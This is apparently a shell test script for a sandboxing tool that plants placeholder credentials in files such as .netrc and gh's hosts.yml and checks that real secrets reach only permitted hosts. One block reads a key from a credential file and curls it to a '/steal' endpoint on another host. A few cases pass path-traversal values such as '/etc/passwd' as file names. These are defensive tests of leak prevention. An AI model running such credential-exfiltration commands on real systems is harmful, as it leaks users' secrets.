# Placeholders in the files where tools look: made for this run, in the box's memory, for the hosts of the doors.
. "$(dirname "$0")/lib-net.sh"
if [ ! -x "$CORDON_LIBEXEC/cordon-vault" ]; then
        skip "credentials in files" "cordon-vault is not built here: it needs OpenSSL"
        done_testing
fi
secret=ghp_Q9zzSecretOfTheTestSuite0123456789
mkdir -p "$T/lab/git" && (cd "$T/lab/git" && git init -q --bare repo.git && git -C repo.git update-server-info) 2>/dev/null
for who in root as_user; do
        home=$T/home-$who
        mkdir -m 700 "$home" && [ "$who" = root ] || chown 65533:65533 "$home" 2>/dev/null
        export XDG_CONFIG_HOME="$home"
        vault() { printf %s "$secret" | $who env XDG_CONFIG_HOME="$home" "$CORDON" vault "$@" >"$T/out" 2>"$T/err"; }
        vault add net --basic robot --box-file .netrc
        is "$who: a credential for .netrc, whose form is known" "$? $(cat "$T/err")" "0 "
        # shellcheck disable=SC2088
        vault add git --basic robot --box-file '~/.git-credentials'
        vault add gh --box-file .config/gh/hosts.yml
        vault add own --box-file .tool/auth --form 'user {user}\nkey={}\nat {host:port}'
        has "$who: list shows where" "$($who env XDG_CONFIG_HOME="$home" "$CORDON" vault ls)" "basic robot, in ~/.netrc"
        : >"$T/lab/auth.log"
        box $who --net 'http://web.test/** GET with net' --net 'http://four.test:8000/** with net' -- sh -c 'cat ~/.netrc; stat -c "%a %U" ~/.netrc; curl -n -sS -m 10 http://web.test/netrc; python3 -c "import netrc; print(netrc.netrc().authenticators(\"web.test\")[0])"'
        is "$who: one line for each host" "$(grep -c '^machine \(web\|four\).test login robot password ghp_' "$T/out")" 2
        is "$who: the box's alone" "$(grep box "$T/out")" "600 box"
        hasnt "$who: not the secret" "$(cat "$T/out")" Q9zz
        is "$who: curl finds it, and the server gets the secret" "$(cat "$T/lab/auth.log")" "/netrc Basic $(printf %s "robot:$secret" | base64 -w0)"
        is "$who: python does not object to its mode" "$(tail -n 1 "$T/out")" robot
        is "$who: nothing of it is on the host" "$(find "$T" /tmp /root /home -xdev -name .netrc -newer "$T/lab/ready" 2>/dev/null)" ""
        if command -v git >/dev/null; then
                : >"$T/lab/auth.log"
                box $who --net 'http://web.test/git/** GET with git' -- sh -c 'cat ~/.git-credentials; git -c credential.helper=store -c http.proactiveAuth=basic ls-remote http://robot@web.test/git/repo.git; printf "protocol=https\nhost=web.test\n\n" | git -c credential.helper=store credential fill'
                has "$who: git reads its own" "$(cat "$T/out")" "username=robot"
                hasnt "$who: and not the secret" "$(cat "$T/out")" Q9zz
        else
                skip "$who: git" "git is not installed"
        fi
        box $who --net 'https://web.test/** with gh' --net 'http://web.test:8000/** with own' --root -- sh -c 'cat ~/.config/gh/hosts.yml ~/.tool/auth; echo more >>~/.tool/auth && tail -n 1 ~/.tool/auth'
        has "$who: gh's own form" "$(cat "$T/out")" "web.test:
    oauth_token: ghp_"
        has "$who: and one that was written out" "$(cat "$T/out")" "user box
key=ghp_"
        has "$who: with the port where it is not the usual one" "$(cat "$T/out")" "at web.test:8000"
        is "$who: the box may write its files" "$(tail -n 1 "$T/out")" more
        # A door to the same directory of the caller's home: the box's own file is not that of the host.
        mkdir -p "$home/.tool" && echo mine >"$home/.tool/auth" && chmod -R a+rwX "$home/.tool" && chmod 711 "$home"
        home_of() { $who env HOME="$home" XDG_CONFIG_HOME="$home" timeout 60 "$CORDON" "$@" 2>&1 </dev/null; }
        own="http://web.test/** with own" look="cat ~/.tool/auth"
        has "$who: beside a door to its directory the box has its own file" "$(home_of run -q --net "$own" --write "$home/.tool" -- sh -c "$look")" key=ghp_
        is "$who: and the host's is as it was" "$(cat "$home/.tool/auth")" mine
        home_of session new "gh$$" --net "$own" --write "$home/.tool" >/dev/null
        has "$who: so it is in a session" "$(home_of session run "gh$$" -- sh -c "$look")" key=ghp_
        is "$who: which leaves the host's alone, too" "$(cat "$home/.tool/auth")" mine
        home_of session end "gh$$" >/dev/null
        # The placeholder of a file is worth as little as that of a variable.
        : >"$T/lab/auth.log"
        box $who --net 'http://web.test/a/** with own' --net 'http://four.test/**' -- sh -c 'key=$(sed -n "s/^key=//p" ~/.tool/auth); curl -sS -m 5 -H "Authorization: Bearer $key" http://four.test/steal; curl -sS -m 5 -d "$key" http://four.test/steal; curl -sS -m 5 http://four.test/$key'
        is "$who: it goes to no other host" "$(cat "$T/lab/auth.log")$(grep -c POST "$T/out")" 0
        has "$who: and that is told" "$(json '[.net.destinations[].why // ""] | join(";")')" "placeholder"
        box $who --net 'http://*.wild.test/** with net' -- sh -c 'cat ~/.netrc | wc -c'
        is "$who: a wildcard has no host to write down" "$(cat "$T/out")" 0
        # The stage mock gives what the others give, and opens no vault for it: the placeholders are of dummies.
        printf '%s\n' '{"method":"GET","url":"http://web.test/netrc","status":200,"headers":[],"body":"recorded\n"}' >"$T/answers" && chmod 644 "$T/answers"
        mv "$home/cordon" "$home/away"
        box $who --net 'http://web.test/** GET with net' --net 'http://four.test/** GET with env' --stage mock --answers "$T/answers" -- \
                sh -c 'cat ~/.netrc; curl -n -sS -m 5 http://web.test/netrc; curl -sS -m 5 http://four.test/$(sed "s/.* //" ~/.netrc)'
        mv "$home/away" "$home/cordon"
        is "$who: the stage mock has the file, without the key of the vault" "$status $(grep -c '^machine web.test login robot password ........' "$T/out")" "0 1"
        has "$who: and recorded answers" "$(cat "$T/out")" recorded
        hasnt "$who: but no secret" "$(cat "$T/out")" Q9zz
        has "$who: its placeholder is held where it belongs, too" "$(json '[.net.destinations[].why // ""] | join(";")')" "placeholder"
        is "$who: another in each run" "$(for i in 1 2; do box $who --net 'http://web.test/** GET with net' --stage mock -- sh -c "cat ~/.netrc"; cat "$T/out"; done | sort -u | wc -l)" 2
        for args in '--box-file .unknown' '--box-file ../x --form {}' '--box-file /etc/passwd --form {}' '--box-file a/../b --form {}' '--box-file a//b --form {}' \
                '--box-file . --form {}' '--box-file a/ --form {}' '--box-file .netrc --form none' '--form {}'; do
                # shellcheck disable=SC2086
                vault add bad $args
                is "$who: vault add $args is refused" "$? $(grep -c 'cordon: error: ' "$T/err") $(grep -c "$secret" "$T/err")" "125 1 0"
        done
done
done_testing
